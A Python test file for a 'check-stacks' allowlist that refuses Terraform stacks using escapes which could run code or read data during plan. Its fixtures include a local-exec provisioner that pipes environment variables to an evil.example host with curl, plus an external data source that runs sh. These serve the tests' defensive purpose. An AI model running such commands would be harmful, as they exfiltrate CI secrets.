"""`check-stacks`: a pull request's stacks are refused before any plan when they use anything the compiler does not
emit (each case below is a way to run code or read data during `terraform plan`, tried and refused)."""

import json
import shutil

import pytest

from modules.review.allowlist import DATA_SOURCES, RESOURCE_TYPES, problems


def _emitted(out):
    docs = [json.loads(p.read_text()) for p in (out / "stacks").glob("*/cdk.tf.json")]
    return ({t for d in docs for t in d.get("resource", {})}, {t for d in docs for t in d.get("data", {})}, docs)


def test_the_example_and_every_valid_fixture_pass(example_out, synthesized_fixture):
    from tests.synth.test_safety import VALID

    for out in [example_out] + [synthesized_fixture(case)[1] for case in VALID]:
        resources, data, docs = _emitted(out)
        assert resources <= RESOURCE_TYPES, f"add to modules/review/allowlist.py: {sorted(resources - RESOURCE_TYPES)}"
        assert data <= DATA_SOURCES, sorted(data - DATA_SOURCES)
        for doc in docs:
            assert problems("s", doc) == []


PLANTED = [
    (
        "http data source",
        lambda d: d.setdefault("data", {}).update({"http": {"x": {"url": "https://evil.example"}}}),
        "s: data source `http` is not allowed",
    ),
    (
        "external provider",
        lambda d: d["terraform"]["required_providers"].update({"external": {"source": "hashicorp/external"}}),
        "s: required provider `external` (hashicorp/external) is not allowed (only hashicorp/aws)",
    ),
    (
        "aws from another source",
        lambda d: d["terraform"]["required_providers"].update({"aws": {"source": "evil/aws", "version": "1.0.0"}}),
        "s: required provider `aws` (evil/aws) is not allowed (only hashicorp/aws)",
    ),
    ("a second provider block", lambda d: d["provider"].update({"null": [{}]}), "s: provider `null` is not allowed"),
    ("null_resource", lambda d: d["resource"].update({"null_resource": {"x": {}}}), "s: resource type `null_resource` is not allowed"),
    (
        "local-exec provisioner",
        lambda d: d["resource"]["aws_vpc"]["vpc"].update({"provisioner": [{"local-exec": {"command": "env | curl -d @- evil.example"}}]}),
        "s: resource aws_vpc.vpc: `provisioner` is not allowed",
    ),
    (
        "a module",
        lambda d: d.update({"module": {"m": {"source": "git::https://evil.example/m"}}}),
        "s: top-level block `module` is not allowed",
    ),
    ("a check block", lambda d: d.update({"check": {"c": {}}}), "s: top-level block `check` is not allowed"),
    (
        "another backend",
        lambda d: d["terraform"].update({"backend": {"http": {"address": "https://evil.example"}}}),
        "s: backend `http` is not allowed (only s3)",
    ),
    ("terraform cloud", lambda d: d["terraform"].update({"cloud": {"organization": "evil"}}), "s: terraform.cloud is not allowed"),
    ("an unknown variable", lambda d: d.update({"variable": {"token": {}}}), "s: variable `token` is not allowed"),
    (
        "an older terraform",
        lambda d: d["terraform"].update({"required_version": ">=0.12"}),
        's: terraform.required_version is ">=0.12" (only ">=1.10.0": S3-native state locking needs Terraform 1.10)',
    ),
    (
        "no required_version",
        lambda d: d["terraform"].pop("required_version"),
        's: terraform.required_version is null (only ">=1.10.0": S3-native state locking needs Terraform 1.10)',
    ),
]


@pytest.mark.parametrize("what, plant, message", PLANTED, ids=[p[0] for p in PLANTED])
def test_planted_escapes_are_refused(example_out, what, plant, message):
    doc = json.loads((example_out / "stacks" / "pricing-dev" / "cdk.tf.json").read_text())
    plant(doc)
    assert message in problems("s", doc)


def test_the_command_refuses_and_plans_nothing(example_out, tmp_path, run_cli):
    stacks = tmp_path / "stacks"
    shutil.copytree(example_out / "stacks", stacks)
    code, out, _ = run_cli(["check-stacks", str(stacks)])
    assert code == 0 and out == "check-stacks: 20 stacks use only allowed providers, data sources and resource types\n"
    (stacks / "pricing-dev" / "evil.tf").write_text('data "external" "x" { program = ["sh"] }\n')
    code, _, err = run_cli(["check-stacks", str(stacks)])
    assert code == 1 and "pricing-dev: file `evil.tf` would be read by Terraform and is not allowed" in err
